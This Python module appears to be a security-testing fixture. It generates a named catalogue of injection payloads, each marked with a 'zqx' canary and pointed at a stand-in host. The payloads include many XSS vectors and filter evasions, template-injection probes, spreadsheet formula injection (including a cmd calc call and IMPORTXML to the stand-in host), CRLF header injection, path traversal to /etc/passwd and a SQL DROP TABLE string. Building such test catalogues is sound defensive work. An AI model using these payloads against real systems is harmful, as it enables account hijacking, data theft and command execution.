"""What is entered by those who mean harm, made by code: each names itself, so that what runs says what it was.

`@` stands for the name. Whatever it makes in a page bears the attribute zqx, whatever it runs calls `alert` with the
name, and whatever it loads asks CANARY for it.
"""

from collections.abc import Iterator

CANARY = "//zqx.test"
SUM, TIMES = 7_006_652, "1234*5678"  # what a template would make of it
RUN = "alert('@')"
ENCODED = "".join(f"&#{ord(one)};" for one in "alert(1)//")

_TAGS = {
    "script": f"<script zqx>{RUN}</script>",
    "script by address": f"<script zqx src={CANARY}/@></script>",
    "script in capitals": f"<ScRiPt zqx>{RUN}</sCrIpT>",
    "script with a slash": f"<script/zqx>{RUN}</script/x>",
    "script split": f"<scr<script>ipt zqx>{RUN}</scr</script>ipt>",
    "module": f"<script zqx type=module>{RUN}</script>",
    "picture": f"<img zqx src=x onerror={RUN}>",
    "picture without quotes": "<img zqx src=x onerror=alert`@`>",
    "picture with slashes": f"<img/zqx/src=x/onerror={RUN}>",
    "picture left open": f'<img zqx src="x" onerror="{RUN}"',
    "picture of elsewhere": f"<img zqx src={CANARY}/@>",
    "picture in sizes": f"<img zqx srcset={CANARY}/@>",
    "drawing": f"<svg zqx onload={RUN}>",
    "drawing with a script": f"<svg zqx><script zqx>{RUN}</script></svg>",
    "drawing that moves": f"<svg zqx><animate onbegin={RUN} attributeName=x dur=1s>",
    "drawing that sets": f"<svg zqx><set onbegin={RUN} attributeName=x>",
    "drawing with a page": f"<svg zqx><foreignObject><img src=x onerror={RUN}>",
    "drawing of elsewhere": f"<svg zqx><image href={CANARY}/@>",
    "formula": f"<math zqx><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "body": f"<body zqx onload={RUN}>",
    "frame": f"<iframe zqx src=javascript:{RUN}>",
    "frame with a page": "<iframe zqx srcdoc='<script>top.alert(`@`)</script>'>",
    "object": f"<object zqx data={CANARY}/@>",
    "embedded": f"<embed zqx src={CANARY}/@>",
    "details": f"<details zqx open ontoggle={RUN}>",
    "field with the focus": f"<input zqx autofocus onfocus={RUN}>",
    "marquee": f"<marquee zqx onstart={RUN}>",
    "film": f"<video zqx><source onerror={RUN}>",
    "sound": f"<audio zqx src=x onerror={RUN}>",
    "base": f"<base zqx href={CANARY}/@/>",
    "refresh": f"<meta zqx http-equiv=refresh content=0;url={CANARY}/@>",
    "style sheet": f"<link zqx rel=stylesheet href={CANARY}/@>",
    "style": f"<style zqx>@import '{CANARY}/@';</style>",
    "form": f"<form zqx action={CANARY}/@><button>",
    "button": f"<button zqx formaction=javascript:{RUN}>@",
    "link": f"<a zqx href=javascript:{RUN}>@</a>",
    "template": f"<template zqx><img src=x onerror={RUN}></template>",
    "htmx": f"<b zqx hx-get={CANARY}/@ hx-trigger=load>",
    "htmx that runs": f"<b zqx hx-on::load={RUN}>",
    "element of one's own": f"<x zqx tabindex=1 autofocus onfocus={RUN}>",
    "null in the name": f"<img zqx src=x one\x0brror={RUN}>",
    "comment": f"--><img zqx src=x onerror={RUN}>",
    "comment that is left": f"<!--><img zqx src=x onerror={RUN}>-->",
    "section": f"]]><img zqx src=x onerror={RUN}>",
    "page instruction": f"<?x ><img zqx src=x onerror={RUN}>",
}
_ENDS = ("title", "textarea", "style", "script", "option></select", "template", "noscript", "svg", "xmp", "iframe")
_QUOTES = {"double": '"', "single": "'", "backtick": "`", "entity": "&quot;", "number": "&#34;", "full width": "＂"}
_HANDLERS = ("onfocus", "onmouseover", "onpointerenter", "onanimationstart", "hx-on:load", "style")
_ADDRESSES = {
    "javascript": f"javascript:{RUN}",
    "in capitals": f"JaVaScRiPt:{RUN}",
    "with a tab": f"java\tscript:{RUN}",
    "with a line": f"java\nscript:{RUN}",
    "with an entity": f"javascript&colon;{RUN}",
    "behind a control": f"\x01javascript:{RUN}",
    "behind a space": f" javascript:{RUN}",
    "with a comment": f"javascript://%0a{RUN}",
    "data": "data:text/html,<script zqx>alert('@')</script>",
    "packed data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@",
    "VBScript": "vbscript:msgbox(@)",
    "without a scheme": f"{CANARY}/@",
    "with two backslashes": "\\\\zqx.test\\@",
    "file": "file:///etc/passwd#@",
}
_STRINGS = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"`-{RUN}-`",
    f"</script><script zqx>{RUN}</script>",
    f"\u2028{RUN}//",
    "*/alert('@')/*",
    "\\u003cimg zqx src=x onerror=alert('@')\\u003e",
    "\\x3cimg zqx onerror=alert('@')\\x3e",
    "*{background:url(//zqx.test/@)}",
    ";}*{x:expression(alert('@'))}",
)
_TEMPLATES = (
    "{{" + TIMES + "}}@",
    "{%" + " debug %}@",
    "{{ request.META }}@",
    "{{ ''.__class__ }}@",
    "{% include '/etc/passwd' %}@",
    "${" + TIMES + "}@",
    "#{" + TIMES + "}@",
    "<%= " + TIMES + " %>@",
    "{0.__class__.__init__.__globals__}@",
    "{self}%(x)s%s%n@",
    '#eval("' + TIMES + '")@',
    '#read("/etc/passwd")@',
    "$" + TIMES + '$ #link("//zqx.test/@")',
)
FORMULAS = (
    '=HYPERLINK("http://zqx.test/@","@")',
    "=cmd|' /C calc'!A0 @",
    "+1234*5678+@",
    "-1234*5678-@",
    "@SUM(1234*5678) @",
    "\t=1234*5678 @",
    "\r=1234*5678 @",
    "＝1234*5678 @",
    '"=1234*5678 @',
    ";=1234*5678 @",
    ' =IMPORTXML("http://zqx.test/@","//a")',
    "%0A=1234*5678 @",
)
_LINES = (
    "@\r\nSet-Cookie: zqx=@",
    "@\r\nBcc: zqx@zqx.test",
    "@\r\n\r\n<img zqx src=x>",
    "@%0d%0aX-Zqx: @",
    "@\u2028zqx-forged @",
    "@\nzqx-forged [info] @",
    "@\x85zqx-forged @",
    "@\x1b[2Jzqx\x1b[0m",
)
_LETTERS = (
    "\u202e@gpj.exe",
    "\u2066@\u2069\u202d",
    "\u200b@\ufeff\u200d",
    "@" + "\u0301" * 20,
    "＜img zqx src=x onerror=alert('@')＞",
    "‹script zqx›alert('@')‹/script›",
    "+ADw-img zqx src=x onerror=alert('@')+AD4-",
    "\U000e0001@\U000e007f",
    "%3Cimg%20zqx%20src=x%20onerror=alert('@')%3E",
    "%253Cscript%2520zqx%253E@",
    "&lt;img zqx src=x onerror=alert('@')&gt;",
    "&amp;lt;img zqx src=x&amp;gt;@",
    f"<img zqx src=x onerror={ENCODED}>@",
    "../../../../etc/passwd@",
    "'; DROP TABLE x; --@",
)
_POLYGLOT = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('@') )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg zqx oNloAd=alert('@')//>"
)


def _all() -> Iterator[tuple[str, str]]:
    yield from _TAGS.items()
    for end in _ENDS:
        yield f"end of {end}", f"</{end}><img zqx src=x onerror={RUN}>"
    for name, quote in _QUOTES.items():
        yield f"{name} quote", f"{quote}><img zqx src=x onerror={RUN}>"
        yield f"{name} quote and a handler", f"{quote} zqx autofocus onfocus={quote}{RUN}"
    for handler in _HANDLERS:
        yield f"handler {handler}", f'x" zqx {handler}="{RUN}'
    yield from ((f"address {name}", text) for name, text in _ADDRESSES.items())
    for kind, texts in {
        "string": _STRINGS, "template": _TEMPLATES, "formula": FORMULAS, "line": _LINES, "letters": _LETTERS,
    }.items():  # fmt: skip
        yield from ((f"{kind} {number}", text) for number, text in enumerate(texts))
    yield "polyglot", _POLYGLOT


PAYLOADS: dict[str, str] = dict(_all())


def named(number: int, field: str) -> str:
    """The payload of a number, with a name that tells of it and of the field it was put into."""
    return list(PAYLOADS.values())[number % len(PAYLOADS)].replace("@", f"zq{field}x{number % len(PAYLOADS)}")
